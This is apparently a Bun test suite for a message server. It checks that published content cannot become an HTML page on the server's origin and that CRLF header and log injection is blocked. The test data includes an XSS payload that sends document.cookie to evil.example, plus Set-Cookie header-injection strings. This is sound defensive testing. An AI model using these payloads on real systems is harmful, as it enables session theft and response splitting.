// What a client or a publisher writes stays what it is: no header, no line of the log, no page on our origin.
import { expect, test } from "bun:test"
import { RawConnection } from "../support/raw-tcp.ts"
import { bearing, shop, startGuarded, tokenFor } from "./guarded.ts"

const script = "<script>fetch('https://evil.example/'+document.cookie)</script>"

test("a message is never a page on our origin, whatever type it was published with", async () => {
  await using server = await startGuarded({ channels: { "/**": { listen: "anyone" } } })
  for (const type of [
    "text/html",
    "text/html; charset=utf-8",
    "TEXT/HTML",
    "application/xhtml+xml",
    "image/svg+xml",
    "text/xml",
    "application/xml",
    "text/javascript",
    "application/pdf",
    "multipart/x-mixed-replace",
    "text/vtt",
  ]) {
    const posted = await fetch(`${server.base}/c`, {
      method: "POST",
      body: script,
      headers: { ...bearing(shop.text), "Content-Type": type },
    })
    if (!posted.ok) continue
    const { headers } = await fetch(`${server.base}/c`)
    expect([type, headers.get("content-type")]).toEqual([
      type,
      expect.stringMatching(/^(text\/plain; charset=utf-8|application\/octet-stream)$/),
    ])
    expect(headers.get("x-content-type-options")).toBe("nosniff")
    expect(headers.get("content-security-policy")).toBe("sandbox; default-src 'none'")
  }
})

test("an error repeats what was asked as data, and is no page either", async () => {
  await using server = await startGuarded()
  for (const path of [
    `/${encodeURIComponent(script)}//`,
    `/_/${encodeURIComponent(script)}`,
    `/_/poll?channel=${encodeURIComponent(script)}`,
  ]) {
    const response = await fetch(server.base + path, { headers: bearing(shop.text) })
    expect(response.ok).toBeFalse()
    expect(response.headers.get("content-type")).toBe("application/problem+json; charset=utf-8")
    expect(response.headers.get("x-content-type-options")).toBe("nosniff")
  }
})

test("no name, user or origin adds a header or a line to the log", async () => {
  await using server = await startGuarded({ origins: ["https://shop.example"] })
  const evil = "%0d%0aSet-Cookie:%20a=b%0d%0a"
  for (const [target, headers] of [
    [`/c${evil}?after=e-0`, []],
    [`/_/${evil}`, []],
    [`/c?after=${evil}`, []],
    [`/_/poll?channel=/c${evil}`, []],
    ["/c", ["Origin: https://evil.example\x0bSet-Cookie: a=b"]],
    ["/c", ["Authorization: Bearer x\x0bSet-Cookie: a=b"]],
    ["/@me/c?after=e-0", [`Authorization: Bearer ${await tokenFor("a\r\nSet-Cookie: a=b")}`]],
    ["/@other/c?after=e-0", [`Authorization: Bearer ${await tokenFor("a\r\nSet-Cookie: a=b")}`]],
  ] as const) {
    await using connection = await RawConnection.open(server.base)
    connection.request(`GET ${target}`, [`Host: ${new URL(server.base).host}`, ...headers])
    const answer = await connection.answer()
    expect([target, answer?.headers.has("set-cookie") ?? false]).toEqual([target, false])
  }
  for (const line of server.log) {
    expect(line.trimEnd()).not.toContain("\n")
    expect(() => JSON.parse(line) as unknown).not.toThrow()
  }
})
